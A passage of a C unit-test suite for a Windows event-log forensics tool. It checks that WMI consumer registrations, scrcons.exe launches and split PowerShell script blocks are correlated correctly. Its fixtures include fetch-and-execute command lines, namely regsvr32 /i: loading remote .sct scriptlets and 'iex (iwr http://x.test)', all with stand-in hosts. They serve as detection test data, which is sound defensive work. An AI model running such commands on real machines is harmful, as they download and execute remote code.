	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ProcessGuid", guid };
	d[1] = (struct ev_pair){ "ProcessId", "4242" };
	d[2] = (struct ev_pair){ "Image", img };
	d[3] = (struct ev_pair){ "CommandLine", cmd };
	d[4] = (struct ev_pair){ "ParentImage", parent };
	d[5] = (struct ev_pair){ "ParentProcessGuid", "{none}" };
	return wmi_at(host, t, 1, d, 6);
}

static struct ev_event *
wmi_proc(const char *host, uint64_t t, const char *guid, const char *cmd,
    const char *parent)
{
	return wmi_proc_img(host, t, guid,
	    "C:\\Windows\\System32\\regsvr32.exe", cmd, parent);
}

#define SCRCONS	"C:\\Windows\\System32\\wbem\\scrcons.exe"
#define CMD_EXE	"C:\\Windows\\System32\\cmd.exe"

START_TEST(test_wmi_correlate)
{
	static const struct ev_pair filt[] = { { "Name", " \"X\"" },
	    { "Query", " \"SELECT 1\"" } };
	static const struct ev_pair bind[] = {
		{ "Consumer", " \"CommandLineEventConsumer.Name=\\\"x\\\"\"" },
		{ "Filter", " \"__EventFilter.Name=\\\"X\\\"\"" },
	};
	struct ev_event *v[16];
	size_t n = 0;
	struct corr *c;
	struct corr_wmi w;
	const struct ev_event *ran[4];

	/* one name on two hosts, and re-registered (case differs) on A */
	v[n++] = wmi_at("A", 10, 19, filt, NELEM(filt));
	v[n++] = wmi_consumer("A", 11, " \"X\"", " \"regsvr32 /s /i:http://a/1.sct"
	    " scrobj.dll\"");
	v[n++] = wmi_consumer("B", 12, " \"X\"", " \"regsvr32 /s /i:http://b/2.sct"
	    " scrobj.dll\"");
	v[n++] = wmi_at("A", 13, 21, bind, NELEM(bind));
	v[n++] = wmi_consumer("A", 14, " \"x\"", " \"C:\\\\Windows\\\\System32\\\\"
	    "regsvr32.exe /s /i:http://a/3.sct scrobj.dll\"");
	/* A: started by the consumer host with the latest command */
	v[n++] = wmi_proc("A", 20, "{p1}", "C:\\Windows\\System32\\regsvr32.exe"
	    " /s /i:http://a/3.sct scrobj.dll", SCRCONS);
	/* A: the first consumer's command, but replaced since: not it */
	v[n++] = wmi_proc("A", 21, "{p2}", "regsvr32 /s /i:http://a/1.sct "
	    "scrobj.dll", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
	/* B: its own consumer, the host's name alike */
	v[n++] = wmi_proc("B", 22, "{p3}", "regsvr32.exe /s /i:http://b/2.sct "
	    "scrobj.dll", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
	/* A: the command, but from explorer: not the consumer's */
	v[n++] = wmi_proc("A", 23, "{p4}", "regsvr32 /s /i:http://a/3.sct "
	    "scrobj.dll", "C:\\Windows\\explorer.exe");
	/* C: a template's %Property% is what WMI put there */
	v[n++] = wmi_consumer("C", 24, " \"T\"", " \"cmd.exe /c echo "
	    "%ProcessId% >> c:\\\\t\\\\%TargetInstance.Name%.txt 100%\"");
	v[n++] = wmi_proc_img("C", 25, "{p5}", CMD_EXE,
	    "cmd.exe /c echo 4242 >> c:\\t\\notepad.exe.txt 100%", SCRCONS);
	v[n++] = wmi_proc_img("C", 26, "{p6}", CMD_EXE,
	    "cmd.exe /c echo 4242 >> c:\\t\\notepad.exe.log 100%", SCRCONS);
	for (size_t i = 0; i < n; i++)
		v[i]->seq = (uint32_t)i;
	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
	ck_assert_ptr_eq(corr_origin(c, v[5]), v[4]);
	ck_assert_ptr_null(corr_origin(c, v[6]));
	ck_assert_ptr_eq(corr_origin(c, v[7]), v[2]);
	ck_assert_ptr_null(corr_origin(c, v[8]));
	ck_assert_ptr_eq(corr_origin(c, v[10]), v[9]);
	ck_assert_ptr_null(corr_origin(c, v[11]));
	ck_assert_uint_eq(corr_started(c, v[4], ran, 4), 1);
	ck_assert_ptr_eq(ran[0], v[5]);
	ck_assert_uint_eq(corr_started(c, v[1], ran, 4), 0);
	/* the join: per host, names ignoring case, the latest */
	ck_assert(corr_wmi(c, v[3], &w));
	ck_assert_ptr_eq(w.filter, v[0]);
	ck_assert_ptr_eq(w.consumer, v[4]);
	ck_assert_ptr_eq(w.binding, v[3]);
	ck_assert_ptr_null(w.registered);
	ck_assert(corr_wmi(c, v[0], &w));
	ck_assert_ptr_eq(w.consumer, v[4]);
	ck_assert_ptr_eq(w.binding, v[3]);
	ck_assert(corr_wmi(c, v[2], &w));
	ck_assert_ptr_eq(w.consumer, v[2]);
	ck_assert_ptr_null(w.filter);
	ck_assert_ptr_null(w.binding);
	ck_assert(!corr_wmi(c, v[5], &w));
	ck_assert_ptr_null(w.consumer);
	corr_free(c);
}
END_TEST

/* A script consumer runs in scrcons.exe: its start is the consumer's. */
START_TEST(test_wmi_script_host)
{
	static const struct ev_pair sc[] = {
		{ "Operation", "Created" }, { "Name", " \"S\"" },
		{ "Type", "Script" }, { "Destination", " \"GetObject(1)\"" },
	};
	static const struct ev_pair del[] = {
		{ "Operation", "Deleted" }, { "Name", " \"S\"" },
		{ "Type", "Script" }, { "Destination", " \"GetObject(1)\"" },
	};
	static const char *const svchost =
	    "C:\\Windows\\System32\\svchost.exe";
	struct ev_event *v[8];
	const struct ev_event *ran[4];
	size_t n = 0;
	struct corr *c;

	v[n++] = wmi_at("S", 30, 20, sc, NELEM(sc));
	v[n++] = wmi_proc_img("S", 31, "{s1}", SCRCONS,
	    SCRCONS " -Embedding", svchost);
	v[n++] = wmi_proc_img("S", 32, "{s2}", SCRCONS,
	    SCRCONS " -Embedding", "C:\\Windows\\explorer.exe");
	v[n++] = wmi_at("S", 40, 20, del, NELEM(del));
	v[n++] = wmi_proc_img("S", 41, "{s3}", SCRCONS,
	    SCRCONS " -Embedding", svchost);
	/* another host's scrcons.exe */
	v[n++] = wmi_proc_img("T", 42, "{s4}", SCRCONS,
	    SCRCONS " -Embedding", svchost);
	for (size_t i = 0; i < n; i++)
		v[i]->seq = (uint32_t)i;
	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
	ck_assert_ptr_eq(corr_origin(c, v[1]), v[0]);
	ck_assert_ptr_null(corr_origin(c, v[2]));
	ck_assert_ptr_null(corr_origin(c, v[4]));
	ck_assert_ptr_null(corr_origin(c, v[5]));
	ck_assert_uint_eq(corr_started(c, v[0], ran, 4), 1);
	ck_assert_uint_eq(corr_started(c, v[3], ran, 4), 0);
	corr_free(c);
}
END_TEST

/* Hostile: arguments longer than a command line; many consumers of one
   image (at most 64 tried per process); names everywhere alike. */
START_TEST(test_wmi_correlate_bounds)
{
	enum { NC = 20000 };
	size_t len = 40000, n = 0;
	char *big = malloc(len + 64), *cmd = malloc(len + 64);
	struct ev_event **v = calloc(NC + 4, sizeof(*v));
	struct corr *c;
	struct corr_wmi w;

	ck_assert(big != NULL && cmd != NULL && v != NULL);
	memcpy(big, " \"regsvr32.exe ", 15);
	memset(big + 15, 'a', len);
	memcpy(big + 15 + len, "\"", 2);
	memcpy(cmd, "regsvr32.exe ", 13);
	memset(cmd + 13, 'a', len);
	cmd[13 + len] = '\0';
	for (int i = 0; i < NC; i++)
		v[n++] = wmi_consumer("A", 2, " \"Same\"",
		    " \"regsvr32.exe /s /i:http://x/y.sct\"");
	v[n++] = wmi_consumer("A", 2, " \"Big\"", big);
	v[n++] = wmi_proc("A", 3, "{q1}", cmd, SCRCONS);
	v[n++] = wmi_proc("A", 4, "{q2}", "regsvr32.exe /s /i:http://x/y.sct",
	    SCRCONS);
	for (size_t i = 0; i < n; i++)
		v[i]->seq = (uint32_t)i;
	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
	/* 40000 bytes of arguments: longer than Windows allows, no tie */
	ck_assert_ptr_null(corr_origin(c, v[n - 2]));
	/* the latest of 20000 alike; the others were registered again */
	ck_assert_ptr_eq(corr_origin(c, v[n - 1]), v[NC - 1]);
	ck_assert(corr_wmi(c, v[0], &w));
	ck_assert_ptr_eq(w.consumer, v[NC - 1]);
	ck_assert(corr_wmi(c, v[NC], &w));
	ck_assert_ptr_eq(w.consumer, v[NC]);
	corr_free(c);

	/* 64 consumers of distinct names whose 30000-byte arguments
	   almost match 60000-byte command lines ("aaa...ab" in "aaa...a"),
	   16 such processes: a naive search would compare 10^12 bytes */
	n = 0;
	memcpy(big, " \"regsvr32.exe ", 15);
	memset(big + 15, 'a', 30000);
	memcpy(big + 15 + 30000, "b\"", 3);
	memset(cmd + 13, 'a', len);
	for (int i = 0; i < 64; i++) {
		char *nm = ev_arena_alloc(&arena, 16);

		snprintf(nm, 16, "\"c%d\"", i);
		v[n++] = wmi_consumer("H", 5, nm, big);
	}
	for (int i = 0; i < 16; i++)
		v[n++] = wmi_proc("H", 6, "{h}", cmd, SCRCONS);
	for (size_t i = 0; i < n; i++)
		v[i]->seq = (uint32_t)i;
	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
	ck_assert_ptr_null(corr_origin(c, v[n - 1]));
	corr_free(c);
	free(big);
	free(cmd);
	free(v);
}
END_TEST

/* ---- script blocks ---- */

#define PS_CHAN	"Microsoft-Windows-PowerShell/Operational"

/* A 4104 part: number/total of block id, text. */
static struct ev_event *
part(const char *id, int num, int tot, const char *text, uint64_t t)
{
	struct ev_pair *d = ev_arena_alloc(&arena, 5 * sizeof(*d));
	char *n = ev_arena_alloc(&arena, 16), *o = ev_arena_alloc(&arena, 16);
	struct ev_event *ev;

	ck_assert_ptr_nonnull(d);
	snprintf(n, 16, "%d", num);
	snprintf(o, 16, "%d", tot);
	d[0] = (struct ev_pair){ "MessageNumber", n };
	d[1] = (struct ev_pair){ "MessageTotal", o };
	d[2] = (struct ev_pair){ "ScriptBlockText", text };
	d[3] = (struct ev_pair){ "ScriptBlockId", id };
	d[4] = (struct ev_pair){ "Path", "" };
	ev = normalised(EV_PROVIDER_POWERSHELL, PS_CHAN, 4104, d, 5);
	ev->time = t;
	return ev;
}

START_TEST(test_script_one_part)
{
	struct ev_event *ev = part("{a}", 1, 1, "iex (iwr http://x.test)", 1);

	ck_assert_int_eq(ev->kind, EV_KIND_SCRIPT);
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
	    "iex (iwr http://x.test)");
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_PART), "1/1");
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_BLOCK_ID), "{a}");
	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_PATH));
	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_NOTE));
	ck_assert(ev_examinable(ev));
}
END_TEST

/* Out of order, two blocks interleaved, a part logged twice. */
START_TEST(test_script_join)
{
	struct ev_event *ev[7];

	ev[0] = part("{b}", 3, 3, "C", 10);
	ev[1] = part("{a}", 2, 2, "-two", 10);
	ev[2] = part("{b}", 1, 3, "A", 11);
	ev[3] = part("{a}", 1, 2, "one", 12);
	ev[4] = part("{b}", 2, 3, "B", 12);
	ev[5] = part("{b}", 2, 3, "B", 13);	/* forwarded twice */
	ev[6] = part("{c}", 1, 1, "alone", 13);
	ck_assert_int_eq(ev_scripts_join(ev, 7, &arena), 0);
	ck_assert_str_eq(ev_col(ev[3], EV_COL_SCRIPT_TEXT), "one-two");
	ck_assert_ptr_null(ev_col(ev[3], EV_COL_SCRIPT_NOTE));
	ck_assert_ptr_null(ev_col(ev[1], EV_COL_SCRIPT_TEXT));
	ck_assert_str_eq(ev_col(ev[2], EV_COL_SCRIPT_TEXT), "ABC");
	ck_assert_ptr_null(ev_col(ev[2], EV_COL_SCRIPT_NOTE));
	ck_assert_ptr_null(ev_col(ev[0], EV_COL_SCRIPT_TEXT));
	ck_assert_ptr_null(ev_col(ev[4], EV_COL_SCRIPT_TEXT));
	ck_assert_ptr_null(ev_col(ev[5], EV_COL_SCRIPT_TEXT));
	ck_assert_str_eq(ev_col(ev[6], EV_COL_SCRIPT_TEXT), "alone");
	ck_assert_str_eq(ev_col(ev[4], EV_COL_SCRIPT_PART), "2/3");
}
END_TEST

/* The same id on two computers is two blocks. */
START_TEST(test_script_hosts)
{
	struct ev_event *ev[2];

	ev[0] = part("{a}", 1, 2, "x", 1);
	ev[1] = part("{a}", 2, 2, "y", 2);
	ck_assert_int_eq(ev_col_set(ev[1], EV_COL_COMPUTER, "OTHER", &arena),
	    0);
	ck_assert_int_eq(ev_scripts_join(ev, 2, &arena), 0);
	ck_assert_str_eq(ev_col(ev[0], EV_COL_SCRIPT_TEXT), "x");
	ck_assert_str_eq(ev_col(ev[0], EV_COL_SCRIPT_NOTE),
	    "partial: 1 of 2 parts (missing 2)");
	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_TEXT), "y");
	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_NOTE),
	    "partial: 1 of 2 parts (missing 1)");
}
END_TEST

START_TEST(test_script_missing)
{
	struct ev_event *ev[3];

	/* the first part lost: the first present one carries the text */
	ev[0] = part("{a}", 4, 12, "d", 1);
	ev[1] = part("{a}", 2, 12, "b", 2);
	ev[2] = part("{a}", 12, 12, "l", 3);
	ck_assert_int_eq(ev_scripts_join(ev, 3, &arena), 0);
	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_TEXT), "bdl");
	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_NOTE),
	    "partial: 3 of 12 parts (missing 1, 3, 5, 6, 7 and 4 more)");
	ck_assert_ptr_null(ev_col(ev[0], EV_COL_SCRIPT_TEXT));
}
END_TEST

/* Numbers that are evidence: out of range, zero, negative, huge. */
START_TEST(test_script_bad_numbers)
{
	struct ev_event *ev[4];

	ev[0] = part("{a}", 0, 2, "zero", 1);
	ev[1] = part("{a}", 3, 2, "three", 2);
	ev[2] = part("{a}", -1, 2, "neg", 3);
	ev[3] = part("{b}", 1, 2000000000, "huge", 4);
	ck_assert_int_eq(ev_scripts_join(ev, 4, &arena), 0);
	for (int i = 0; i < 4; i++)
		ck_assert_ptr_null(ev_col(ev[i], EV_COL_SCRIPT_TEXT));
}
END_TEST

/* A block longer than EV_SCRIPT_MAX is cut on a character boundary. */
START_TEST(test_script_cut)
{
	size_t half = EV_SCRIPT_MAX / 2 + 1;
	char *a = malloc(half + 1), *b = malloc(half + 1);
	struct ev_event *ev[2];
	size_t len;

	ck_assert(a != NULL && b != NULL);
	memset(a, 'a', half);
	a[half] = '\0';
	/* two-byte characters, so the cut falls inside one */
	for (size_t i = 0; i + 1 < half; i += 2)
		memcpy(b + i, "\xc3\xa9", 2);
	b[half - 1] = 'z';
	b[half] = '\0';
	ev[0] = part("{a}", 1, 2, a, 1);
	ev[1] = part("{a}", 2, 2, b, 2);
	ck_assert_int_eq(ev_scripts_join(ev, 2, &arena), 0);
	len = strlen(ev_col(ev[0], EV_COL_SCRIPT_TEXT));
	ck_assert_uint_le(len, EV_SCRIPT_MAX);
	ck_assert_uint_ge(len, EV_SCRIPT_MAX - 1);
	/* it ends on a whole character */
	ck_assert_int_ne((unsigned char)ev_col(ev[0],
	    EV_COL_SCRIPT_TEXT)[len - 1], 0xc3);
	ck_assert_str_eq(ev_col(ev[0], EV_COL_SCRIPT_NOTE),
	    "cut at 1048576 bytes");
	free(a);
	free(b);
}
END_TEST

static Suite *
sources_suite(void)
{
	Suite *s = suite_create("sources");
	TCase *tc = tcase_create("sources");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, test_classify_sources);
	tcase_add_test(tc, test_service_7045);
	tcase_add_test(tc, test_service_4697);
	tcase_add_test(tc, test_task_xml);
	tcase_add_loop_test(tc, test_task_xml_hostile, 0, NELEM(hostile));
	tcase_add_test(tc, test_task_xml_bounds);
	tcase_add_test(tc, test_task_4698);
	tcase_add_test(tc, test_tasksched_norm);
	tcase_add_test(tc, test_tasksched_correlate);
	tcase_add_test(tc, test_sysmon_dns_file);
	tcase_add_test(tc, test_sysmon_access);
	tcase_add_test(tc, test_sysmon_access_correlate);
	tcase_add_test(tc, test_sysmon_driver);
	tcase_add_test(tc, test_sysmon_registry);
	tcase_add_test(tc, test_sysmon_stream_pipe);
	tcase_add_test(tc, test_sysmon_more_correlate);
	tcase_add_test(tc, test_powershell_pipeline);
	tcase_add_test(tc, test_powershell_classic);
	tcase_add_test(tc, test_wmi_sysmon);
	tcase_add_test(tc, test_wmi_5861);
	tcase_add_test(tc, test_wmi_hostile);
	tcase_add_test(tc, test_wmi_correlate);
	tcase_add_test(tc, test_wmi_correlate_bounds);
	tcase_add_test(tc, test_wmi_script_host);
	tcase_add_test(tc, test_script_one_part);
	tcase_add_test(tc, test_script_join);
	tcase_add_test(tc, test_script_hosts);
	tcase_add_test(tc, test_script_missing);
	tcase_add_test(tc, test_script_bad_numbers);
	tcase_add_test(tc, test_script_cut);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(sources_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? 0 : 1;
}
